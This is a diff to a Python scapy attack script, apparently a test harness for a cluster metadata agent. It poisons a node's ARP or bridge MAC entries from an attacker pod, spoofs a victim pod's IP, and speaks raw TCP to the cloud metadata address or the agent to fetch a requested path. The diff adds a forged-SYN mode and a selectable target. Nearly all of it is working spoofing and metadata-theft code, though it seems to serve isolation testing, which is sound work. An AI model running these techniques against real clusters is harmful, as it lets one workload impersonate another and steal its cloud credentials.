@@ -3,7 +3,7 @@
 Run inside the attacker pod's network namespace under
 `setpriv --bounding-set=-all,+net_raw` (what containerd grants every container by default).
 It speaks TCP entirely over a raw packet socket, from the victim's address, to the metadata
-address, and asks for `--path`. For the node's answers to reach it, it first takes over one of
+address (or `--target`, the agent's own address and port), and asks for `--path`. For the node's answers to reach it, it first takes over one of
 two things the attacker can write from its own port:
 
 - `--mode arp`: the node's neighbour entry for the victim's address (ARP requests to the node
@@ -11,8 +11,12 @@ two things the attacker can write from its own port:
 - `--mode mac`: the bridge's forwarding entry for the victim's MAC (frames sent with the
   victim's MAC as their source).
 
+`--mode syn` sends one forged SYN from the victim's address and takes over nothing (on a
+routed link the answer goes to the victim's own link; whether the SYN got past the node's
+first hook shows in its connection tracking).
+
 Prints one JSON line: {"answered": false} when the handshake got no answer, or
-{"answered": true, "response": "<HTTP response>"}.
+{"answered": true, "response": "<HTTP response>"}, or for `syn` {"sport": <source port>}.
 """
 
 import argparse
@@ -22,7 +26,7 @@ import select
 import sys
 import time
 
-from scapy.all import ARP, ICMP, IP, TCP, Ether, Raw, conf  # noqa: E402
+from scapy.all import ARP, IP, TCP, Ether, Raw, conf  # noqa: E402
 
 METADATA = "169.254.169.254"
 
@@ -30,28 +34,31 @@ METADATA = "169.254.169.254"
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--iface", default="eth0")
-    parser.add_argument("--mode", choices=["arp", "mac"], required=True)
+    parser.add_argument("--mode", choices=["arp", "mac", "syn"], required=True)
     parser.add_argument("--victim-ip", required=True)
     parser.add_argument("--victim-mac", required=True)
     parser.add_argument("--gateway-ip", required=True)
     parser.add_argument("--gateway-mac", required=True)
     parser.add_argument("--path", required=True)
+    parser.add_argument("--target", default=f"{METADATA}:80", help="where to connect: the metadata address, or the agent's own")
     parser.add_argument("--timeout", type=float, default=3.0)
     args = parser.parse_args()
 
     sock = conf.L2socket(iface=args.iface)
     own_mac = open(f"/sys/class/net/{args.iface}/address").read().strip()
-    source_mac = own_mac if args.mode == "arp" else args.victim_mac
+    source_mac = args.victim_mac if args.mode == "mac" else own_mac
 
     def poison():
+        if args.mode == "syn":
+            return
         if args.mode == "arp":
             # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
             claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
             sock.send(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff") / claim)
         else:
-            # Any frame from the victim's MAC teaches the bridge that MAC is on this port.
-            probe = IP(src=args.victim_ip, dst=args.gateway_ip) / ICMP(id=random.randint(1, 65535))
-            sock.send(Ether(src=args.victim_mac, dst=args.gateway_mac) / probe)
+            # Any frame from the victim's MAC teaches the bridge that MAC is on this port: one
+            # that claims no address at all (IEEE's local experimental EtherType).
+            sock.send(Ether(src=args.victim_mac, dst=args.gateway_mac, type=0x88B5) / Raw(b"iamlet-test"))
 
     def wait(matches, timeout):
         deadline = time.monotonic() + timeout
@@ -64,33 +71,40 @@ def main():
                 return packet
         return None
 
-    for _ in range(3):
+    for _ in range(3 if args.mode != "syn" else 0):
         poison()
         time.sleep(0.05)
 
-    frame = Ether(src=source_mac, dst=args.gateway_mac) / IP(src=args.victim_ip, dst=METADATA)
+    target_ip, target_port = args.target.rsplit(":", 1)
+    target_port = int(target_port)
+    frame = Ether(src=source_mac, dst=args.gateway_mac) / IP(src=args.victim_ip, dst=target_ip)
     sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
 
     def ours(packet):
         return (
             TCP in packet
             and IP in packet
-            and packet[IP].src == METADATA
+            and packet[IP].src == target_ip
             and packet[IP].dst == args.victim_ip
+            and packet[TCP].sport == target_port
             and packet[TCP].dport == sport
         )
 
     poison()
-    sock.send(frame / TCP(sport=sport, dport=80, flags="S", seq=seq))
+    sock.send(frame / TCP(sport=sport, dport=target_port, flags="S", seq=seq))
+    if args.mode == "syn":
+        print(json.dumps({"sport": sport}))
+        return 0
     synack = wait(lambda p: ours(p) and (int(p[TCP].flags) & 0x12) == 0x12, args.timeout)
     if synack is None:
+        poison()
         print(json.dumps({"answered": False}))
         return 0
     seq += 1
     ack = synack[TCP].seq + 1
     request = f"GET {args.path} HTTP/1.0\r\nHost: {METADATA}\r\n\r\n".encode()
     poison()
-    sock.send(frame / TCP(sport=sport, dport=80, flags="PA", seq=seq, ack=ack) / Raw(request))
+    sock.send(frame / TCP(sport=sport, dport=target_port, flags="PA", seq=seq, ack=ack) / Raw(request))
     seq += len(request)
     segments = {}
     finished = False
@@ -105,7 +119,8 @@ def main():
         if int(packet[TCP].flags) & 0x01:
             finished = True
             ack = max(ack, packet[TCP].seq + len(payload) + 1)
-        sock.send(frame / TCP(sport=sport, dport=80, flags="A", seq=seq, ack=ack))
+        sock.send(frame / TCP(sport=sport, dport=target_port, flags="A", seq=seq, ack=ack))
+    poison()  # what the node's entries hold when this returns is the attacker's doing
     response = b"".join(segments[key] for key in sorted(segments))
     print(json.dumps({"answered": True, "response": response.decode(errors="replace")}))
     return 0
